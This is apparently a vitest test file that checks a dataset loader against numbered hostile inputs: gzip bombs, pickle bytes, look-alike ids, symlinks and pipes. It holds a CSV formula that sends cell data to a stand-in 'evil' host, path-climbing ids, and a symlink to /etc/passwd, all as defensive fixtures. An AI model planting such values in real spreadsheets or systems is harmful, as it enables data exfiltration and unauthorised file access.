import { execFileSync } from 'node:child_process';
import { symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { parquetWriteBuffer } from 'hyparquet-writer';
import { describe, expect, test } from 'vitest';
import { nodeDigester } from '../adapters/node-digester.ts';
import { eachOf } from '../ports/store.ts';
import { foldId } from './samples/sample-ids.ts';
import type { LabelledSample, Labels } from '../score/labels/labels.ts';
import { openSamples } from '../score/labels/testing/open-samples.ts';
import { projectFolder, refusal } from './testing/project-folder.ts';

/**
 * Attacks through datasets, by their number in the list of attacks, with inputs of our own.
 *
 * Shown elsewhere: 07 formulas in CSV (report/renderers.test.ts, scoreCsv); 14 metrics of one class are missing,
 * not 0 (packages/metrics, classification); 20 injections at the judge (score/judge/attacks.test.ts); 21 markup
 * in samples (report/renderers.test.ts; apps/cli, hostile-text.test.ts).
 *
 * Not of this room, because nothing here publishes a dataset or keeps one for others: 04, 05 and 06 as lints of
 * a publication (here an answer left in a column of its own is refused; a label in the input is the owner's
 * affair), 18 canaries, 23 a public route to hidden files: no server. They belong to the evaluator and its vault.
 */
const open = (contents: Record<string, string | Uint8Array>, path = Object.keys(contents)[0]!) =>
  openSamples(
    { datasets: [{ path, subtask: null }], num_samples: null, subsampling: 'head', seed: '0' },
    projectFolder(contents),
    nodeDigester,
  );
const rows = (...samples: readonly object[]): Record<string, string> => ({
  'd.jsonl': samples.map((sample) => JSON.stringify(sample)).join('\n'),
});
const ids = (...all: readonly string[]) => rows(...all.map((id) => ({ id, input: 1 })));
const labels = (...all: readonly unknown[]) =>
  rows(...all.map((expected, i) => ({ id: `s${i}`, input: 1, expected })));

type Refused = readonly [
  name: string,
  contents: Record<string, string | Uint8Array>,
  code: string,
  line?: number,
];

const refused: readonly Refused[] = [
  [
    '01 two rows with one id',
    rows({ id: 'q7', input: 1, expected: 'A' }, { id: 'q7', input: 1, expected: 'B' }),
    'E_DATA_DUPID',
    2,
  ],
  ['02 ids equal after NFC', ids('caf\u00e9', 'cafe\u0301'), 'E_DATA_DUPID', 2],
  ['02 ids equal but for case', ids('Q1', 'q1'), 'E_DATA_DUPID', 2],
  ['02 ids equal but for a space', ids('q1', 'q1 '), 'E_DATA_DUPID', 2],
  ['02 ids equal but for what is invisible', ids('q1', 'q1\u200b'), 'E_DATA_DUPID', 2],
  ['03 ids that climb', ids('../../labels'), 'E_DATA_ID', 1],
  ['03 an id that is a folder', ids('a/./b'), 'E_DATA_ID', 1],
  ['03 a long id', ids('x'.repeat(5_000)), 'E_DATA_ID', 1],
  ['03 NUL in an id', ids('a\u0000b'), 'E_DATA_ID', 1],
  ['04 an answer left in a column', rows({ id: 'a', input: 'x', answer: 'B' }), 'E_DATA_COLUMN', 1],
  ['08 ragged rows', { 'd.csv': 'id,input\na,x\nb,y,z\n' }, 'E_ROWS_CSV', 3],
  ['08 a quote that does not end', { 'd.csv': 'id,input\na,"x\n' }, 'E_ROWS_CSV', 2],
  ['08 another delimiter', { 'd.csv': 'id;input\na;x\n' }, 'E_DATA_COLUMN'],
  ['08 a cell of 17 MB', { 'd.csv': `id,input\na,${'x'.repeat(17 * 2 ** 20)}\n` }, 'E_ROWS_CSV'],
  [
    '09 a whole number beyond 2^53',
    { 'd.jsonl': '{"id":"a","input":1,"expected":9007199254740993}' },
    'E_SPEC_NUMBER',
    1,
  ],
  ['09 1e400', { 'd.jsonl': '{"id":"a","input":1,"expected":1e400}' }, 'E_SPEC_NUMBER', 1],
  ['09 NaN', { 'd.jsonl': '{"id":"a","input":1,"expected":NaN}' }, 'E_SPEC_JSON', 1],
  ['09 Infinity', { 'd.jsonl': '{"id":"a","input":1,"expected":Infinity}' }, 'E_SPEC_JSON', 1],
  ['10 a Cyrillic letter among Latin labels', labels('A', 'B', '\u0410'), 'E_DATA_LABELS', 3],
  ['10 an invisible character in a label', labels('A\u200b', 'A'), 'E_DATA_LABELS', 2],
  ['11 a pickle by another name', { 'd.jsonl': Uint8Array.of(0x80, 4, 0x95, 0, 0) }, 'E_ROWS_FORMAT'],
  ['11 a pickle by its own', { 'd.pkl': Uint8Array.of(0x80, 4, 0x95, 0, 0) }, 'E_ROWS_FORMAT'],
  ['11 a zip of one', { 'd.pt': Buffer.from('PK\u0003\u0004archive/data.pkl') }, 'E_ROWS_FORMAT'],
  ['11 numpy', { 'd.csv': Buffer.from('\u0093NUMPY\u0001\u0000', 'latin1') }, 'E_ROWS_FORMAT'],
  ['12 a bomb', { 'd.jsonl.gz': gzipSync('{"id":"a","input":1}\n'.repeat(1_000_000)) }, 'E_ROWS_SIZE'],
  ['12 packed twice', { 'd.jsonl.gz': gzipSync(gzipSync('{"id":"a","input":1}')) }, 'E_ROWS_FORMAT'],
  ['12 compressed rows by another name', { 'd.jsonl': gzipSync('x'.repeat(1e6)) }, 'E_ROWS_FORMAT'],
  ['14 no rows', { 'd.jsonl': '\n' }, 'E_DATA_EMPTY'],
  ['14 labels that are all null', labels(null, null), 'E_DATA_LABELS', 1],
  [
    '15 a line without end',
    { 'd.jsonl': `{"id":"a","input":"${'x'.repeat(11 * 2 ** 20)}"}` },
    'E_SPEC_SIZE',
    1,
  ],
  ['16 code that loads', { 'dataset.py': 'import os' }, 'E_ROWS_FORMAT'],
];

describe('datasets that are refused', () => {
  test.each(refused.map((attack) => ({ attack, name: attack[0] })))('$name', async ({ attack }) => {
    const [, contents, code, line] = attack;
    const error = await refusal(() => open(contents));
    expect([error.code, error.trouble]).toEqual([code, 'invalid']);
    if (line !== undefined) expect(error.location?.line).toBe(line);
  });

  test('01 the first twenty are listed', async () => {
    const twice = Array.from({ length: 60 }, (_, i) => `s${i % 30}`);
    const { message } = await refusal(() => open(ids(...twice)));
    expect(message.match(/^.*d\.jsonl:\d+ and d\.jsonl:\d+/gm)).toHaveLength(20);
  });

  test('12 a Parquet file that claims a billion rows', async () => {
    const bytes = new Uint8Array(
      parquetWriteBuffer({
        columnData: [
          { name: 'id', data: ['a'], type: 'STRING' },
          { name: 'input', data: ['x'], type: 'STRING' },
        ],
      }),
    );
    // The number of rows is a varint in the footer; one that says more than is there must not be believed.
    let damaged = 0;
    for (let at = bytes.length - 200; at < bytes.length - 8; at += 1) {
      if (bytes[at] !== 2) continue;
      const changed = bytes.slice();
      changed[at] = 0x7e;
      await open({ 'd.parquet': changed }).then(
        async (dataset) => expect(await count(dataset)).toBeLessThan(100),
        (error: Error & { code?: string }) => expect(error.code ?? error.stack, `byte ${at}`).toMatch(/^E_/),
      );
      damaged += 1;
    }
    expect(damaged).toBeGreaterThan(3);
  });

  test('13 data that is elsewhere, 17 links and pipes', async () => {
    const files = projectFolder({ 'd.jsonl': '{"id":"a","input":1}' });
    symlinkSync('/etc/passwd', join(files.folder, 'link.jsonl'));
    execFileSync('mkfifo', [join(files.folder, 'pipe.jsonl')]);
    const at = (path: string) =>
      refusal(() =>
        openSamples(
          { datasets: [{ path, subtask: null }], num_samples: null, subsampling: 'head', seed: '0' },
          files,
          nodeDigester,
        ),
      );
    for (const path of ['link.jsonl', 'pipe.jsonl', '../d.jsonl', '/etc/passwd']) {
      expect((await at(path)).code).toBe('E_SPEC_PATH');
    }
    expect((await at('https://example.org/d.jsonl')).code).toMatch(/^E_(?:SPEC_PATH|PATH)$/);
  });
});

describe('datasets that are read as they are', () => {
  test('03 an id is never a file name: names that systems keep for themselves are only texts', async () => {
    expect((await all(await open(ids('CON', 'a/b')))).map(({ input }) => input.id)).toEqual(['CON', 'a/b']);
  });

  test('07 a formula is kept verbatim', async () => {
    const formula = '=HYPERLINK("http://evil?"&A1)';
    expect((await all(await open(labels(formula, '-1'))))[0]!.label.expected).toBe(formula);
  });

  test('08 quoted line breaks, doubled quotes and a byte order mark', async () => {
    const [first] = await all(await open({ 'd.csv': '\ufeffid,input\na,"x\r\n""y"""\n' }));
    expect(first!.input).toEqual({ id: 'a', input: 'x\r\n"y"' });
  });

  test('09 "1" is not 1, -0 has the digest of 0', async () => {
    const mixed = await all(await open(labels('1', 1)));
    expect(mixed.map(({ label }) => label.expected)).toEqual(['1', 1]);
    const minus = await open({ 'd.jsonl': '{"id":"a","input":1,"expected":-0}' });
    const plus = await open({ 'd.jsonl': '{"id":"a","input":1,"expected":0}' });
    expect(minus.plainDigest()).toBe(plus.plainDigest());
  });

  test('10 labels of other scripts, and longer texts with joiners', async () => {
    expect((await open(labels('да', 'нет', 'ναι', 'όχι', 'да'))).samples).toBe(5);
    expect((await open(labels('👩\u200d👩\u200d👧', 'می\u200cخواهم', 'yes'))).samples).toBe(3);
  });

  test('14 one row, one class, and labels of which some are null', async () => {
    expect((await open(labels('A'))).samples).toBe(1);
    expect((await open(labels('A', null))).samples).toBe(2);
  });

  test('15 CRLF and LF mixed, no end of the last line', async () => {
    const dataset = await open({
      'd.jsonl': '{"id":"a","input":1}\r\n{"id":"b","input":2}\n{"id":"c","input":3}',
    });
    expect(await count(dataset)).toBe(3);
  });

  test('19 labels that were edited have another digest', async () => {
    const [before, after] = [await open(labels('A', 'B')), await open(labels('A', 'A'))];
    expect(after.inputs_digest).toBe(before.inputs_digest);
    expect(after.plainDigest()).not.toBe(before.plainDigest());
  });

  test('22 one way to fold case', () => {
    const folded = { İstanbul: 'i̇stanbul', straße: 'strasse', STRASSE: 'strasse', ΣΑΣ: 'σας' };
    for (const [id, expected] of Object.entries(folded)) expect(foldId(id)).toBe(expected);
  });
});

async function all(dataset: Pick<Labels, 'read'>): Promise<readonly LabelledSample[]> {
  return Array.fromAsync(eachOf(dataset.read()));
}

async function count(dataset: Pick<Labels, 'read'>): Promise<number> {
  return (await all(dataset)).length;
}
